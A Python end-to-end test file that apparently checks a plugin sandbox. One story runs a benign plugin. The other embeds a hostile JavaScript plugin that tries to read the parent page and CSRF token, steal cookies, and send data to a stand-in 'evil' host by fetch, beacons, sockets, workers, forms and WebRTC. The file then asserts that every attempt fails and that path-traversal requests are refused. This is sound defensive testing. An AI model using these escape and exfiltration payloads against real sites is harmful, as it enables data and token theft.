"""A plugin's own picture in its frame: a good one, which asks and is answered, and a hostile one, which tries everything."""

import functools
import http.server
import os
import pathlib
import shutil
import socket
import subprocess
import threading

from members import founded
from town import PHONE, Person

ROOT = pathlib.Path(__file__).resolve().parents[4]
BUILT = ROOT / "target/plugins/beds"


@functools.cache
def build():
    """The example, as it is in this checkout."""
    subprocess.run([os.environ["HAMLET"], "plugin", "build", ROOT / "examples/beds", "--out", BUILT], check=True,
                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

HOSTILE = """"use strict";
const results = {};
const tell = (name, value) => { results[name] = String(value); document.body.dataset.results = JSON.stringify(results); };
const tries = async (name, act) => {
  try { const got = await act(); tell(name, got === undefined ? "done" : got); } catch (error) { tell(name, "refused"); }
};
const evil = "http://127.0.0.1:EVIL";
const own = "OWN";
addEventListener("message", async (event) => {
  const port = event.ports[0];
  if (!port || results.begun) return;
  tell("begun", "yes");
  tell("origin", self.origin);
  const asked = (wanted) => new Promise((done) => {
    const id = Math.floor(Math.random() * 1e9);
    port.addEventListener("message", ({ data }) => { if (data.id === id) done(data); });
    port.postMessage({ id, ...wanted });
  });
  port.start();
  await tries("parent's page", () => parent.document.body.innerHTML.length);
  await tries("parent's forms", () => parent.document.querySelector("input[name=csrf]").value);
  await tries("top away", () => { top.location = evil + "/top"; return "tried"; });
  await tries("cookies", () => document.cookie);
  await tries("storage", () => localStorage.length);
  await tries("database", () => new Promise((done, no) => { const open = indexedDB.open("x"); open.onsuccess = () => done("opened"); open.onerror = no; }));
  await tries("service worker", () => navigator.serviceWorker.register("garden.js"));
  await tries("fetch elsewhere", () => fetch(evil + "/fetch").then((a) => a.status));
  await tries("fetch here", () => fetch(own + "/me", { credentials: "include" }).then((a) => a.text()));
  await tries("fetch its own", () => fetch("garden.css").then((a) => a.status));
  await tries("beacon", () => navigator.sendBeacon(evil + "/beacon", "x"));
  await tries("socket", () => new Promise((done, no) => { const s = new WebSocket(evil.replace("http", "ws")); s.onopen = () => done("open"); s.onerror = no; }));
  await tries("events", () => new Promise((done, no) => { const s = new EventSource(evil + "/events"); s.onopen = () => done("open"); s.onerror = no; }));
  await tries("picture", () => new Promise((done, no) => { const i = new Image(); i.onload = () => done("loaded"); i.onerror = no; i.src = evil + "/picture"; }));
  await tries("script", () => new Promise((done, no) => { const s = document.createElement("script"); s.onload = () => done("ran"); s.onerror = no; s.src = evil + "/script.js"; document.body.append(s); }));
  await tries("module", () => import(evil + "/module.js"));
  await tries("eval", () => eval("'evaluated'"));
  for (const rel of ["prefetch", "preload", "stylesheet", "preconnect", "dns-prefetch", "modulepreload"]) {
    const link = document.createElement("link");
    link.rel = rel; link.as = "script"; link.href = evil + "/" + rel; document.head.append(link);
  }
  await tries("frame inside", () => { const f = document.createElement("iframe"); f.src = evil + "/frame"; document.body.append(f); return "tried"; });
  await tries("form", () => { const f = document.createElement("form"); f.action = evil + "/form"; document.body.append(f); f.submit(); return "tried"; });
  await tries("window", () => String(window.open(evil + "/window")));
  await tries("worker", () => new Promise((done, no) => {
    const w = new Worker(URL.createObjectURL(new Blob([`fetch("${evil}/worker").then(() => postMessage("out"), () => postMessage("no"))`])));
    w.onmessage = ({ data }) => data === "out" ? done("out") : no(); w.onerror = no; }));
  await tries("peer", () => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:STUN" }] });
    peer.createDataChannel("x");
    return peer.createOffer().then((offer) => peer.setLocalDescription(offer)).then(() => "tried");
  });
  // Over the port: nothing but this plugin's functions, as whoever looks, and no command by itself.
  for (const [name, wanted] of Object.entries({
    "another plugin": { interface: "books", function: "ledgers", arguments: {} },
    "a path": { interface: "../../ledger/do/transfers", function: "pay", arguments: {} },
    "the host": { interface: "members", function: "list", arguments: {} },
    "no such function": { interface: "garden", function: "burn", arguments: {} },
    "not arguments": { interface: "garden", function: "beds", arguments: [1] },
    "nothing": {},
    "a command": { interface: "garden", function: "plant", arguments: { number: 1, crop: "Weeds" } },
    "beds": { interface: "garden", function: "beds", arguments: {} },
  })) await tries("port: " + name, async () => JSON.stringify(await asked(wanted)));
  for (const odd of [null, 7, "x", [], { id: "1" }, { id: 1.5 }, { id: 2, interface: {} }]) port.postMessage(odd);
  tell("end", "yes");
  setTimeout(() => { location.href = evil + "/away"; }, 300);
});
"""


class Evil:
    """Somewhere else: whoever comes here got out."""

    def __init__(self):
        hits = self.hits = []

        class Page(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                hits.append(self.path)
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            do_POST = do_GET

            def log_message(self, *_):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Page)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.udp.settimeout(1)

    def packets(self):
        try:
            return len(self.udp.recv(2_000))
        except TimeoutError:
            return 0


def installs(ada, files=None):
    """The plugin from the box's own catalogue, with other static files if they are given."""
    folder = ada.town.home / "catalogue" / "beds"
    shutil.copytree(BUILT, folder)
    for name, text in (files or {}).items():
        (folder / "static" / name).write_text(text)
    ada.goes("/stewards/plugins")
    offer = ada.page.locator("li").filter(has_text="The garden beds")
    offer.get_by_role("button", name="Look at it").first.click()
    ada.page.wait_for_load_state("load")
    ada.looks()
    ada.presses("Grant all of this and install")


def picture(page):
    return page.frame_locator(".h-frame iframe")


def story_a_picture_in_a_frame_asks_and_the_host_does(browser):
    build()
    town, ada = founded(browser, name="ada-garden")
    installs(ada)
    ada.goes("/p/beds/")
    ada.reads("The same as a list, for whoever sees no picture")
    bed = picture(ada.page).get_by_role("button", name="3", exact=True)
    bed.wait_for(timeout=5_000)
    assert ada.page.locator(".h-frame [role=status]").is_hidden()
    bed.click()
    ada.page.get_by_text("The picture above asks for this: plant.").wait_for(timeout=5_000)
    ada.looks()
    # Nothing is done yet; the host's own form is filled in, and she presses.
    ada.follows("Look at it")
    assert ada.page.locator("[name=p_number]").input_value() == "3"
    assert ada.page.locator("[name=p_crop]").input_value() == "Beans"
    ada.page.locator("main form button").last.click()
    ada.page.wait_for_load_state("load")
    ada.goes("/p/beds/")
    picture(ada.page).get_by_role("button", name="3 Beans", exact=True).wait_for(timeout=5_000)
    ada.reads("Bed 3: Beans")
    # Without JavaScript the list and the form say and do the same.
    ben = Person(browser, town, "ben-garden", script=False, size=PHONE)
    ben.goes("/p/beds/")
    ben.reads("Sign in")
    # The files are a program and nobody's data: they come without cookies, and with an origin of nobody.
    answer = ben.context.request.get(town.url + "/p/beds/static/garden.js")
    assert answer.status == 200 and "sandbox allow-scripts;" in answer.headers["content-security-policy"]
    for path in ["../plugin.toml", "%2e%2e/plugin.toml", "nothing.js", "", "garden.js/"]:
        assert ben.context.request.get(town.url + f"/p/beds/static/{path}").headers.get("content-type", "").split(";")[0] \
            in ("text/html", "application/problem+json", "application/json"), path
    town.close()


def story_a_hostile_frame_reaches_nothing_but_its_port(browser):
    build()
    town, ada = founded(browser, name="ada-hostile")
    evil = Evil()
    script = HOSTILE.replace("EVIL", str(evil.port)).replace("OWN", town.url).replace(
        "STUN", str(evil.udp.getsockname()[1]))
    installs(ada, {"garden.js": script})
    ada.page.goto(town.url + "/p/beds/")
    here = ada.page.url
    body = picture(ada.page).locator("body")
    ada.page.wait_for_function(
        "() => true", timeout=1_000)
    for _ in range(100):
        results = body.evaluate("e => JSON.parse(e.dataset.results || '{}')")
        if results.get("end"):
            break
        ada.page.wait_for_timeout(100)
    assert results.get("end"), results
    print("    " + "; ".join(f"{name}: {said[:60]}" for name, said in results.items()))
    assert results["origin"] == "null"
    for name in ["parent's page", "parent's forms", "top away", "cookies", "storage", "database", "service worker",
                 "fetch elsewhere", "fetch here", "fetch its own", "socket", "picture", "script", "module",
                 "eval", "events"]:
        assert results[name] in ("refused", "false"), (name, results[name])
    assert results["window"] == "null", results["window"]
    for name in ["another plugin", "a path", "the host", "no such function", "not arguments", "nothing"]:
        assert "refused" in results[f"port: {name}"], (name, results[f"port: {name}"])
    assert '"asked":true' in results["port: a command"]
    assert '"number":12' in results["port: beds"] and "Weeds" not in results["port: beds"]
    # It tried to take itself elsewhere: the page around it does not let it, and is where it was.
    ada.page.wait_for_timeout(1_500)
    assert ada.page.url == here
    assert evil.hits == [], evil.hits
    assert evil.packets() == 0, "a packet went out by WebRTC"
    assert len(ada.context.pages) == 1
    # The command that it asked for was not done, and what stands below the frame is the host's.
    assert ada.page.locator(".h-frame a").get_attribute("href").startswith("/p/beds/call/garden/plant?")
    ada.errors.clear()
    ada.goes("/p/beds/call/garden/beds")
    # Opened by itself the file is as powerless.
    alone = ada.context.new_page()
    alone.goto(town.url + "/p/beds/static/garden.html")
    assert alone.evaluate("self.origin") == "null"
    town.close()
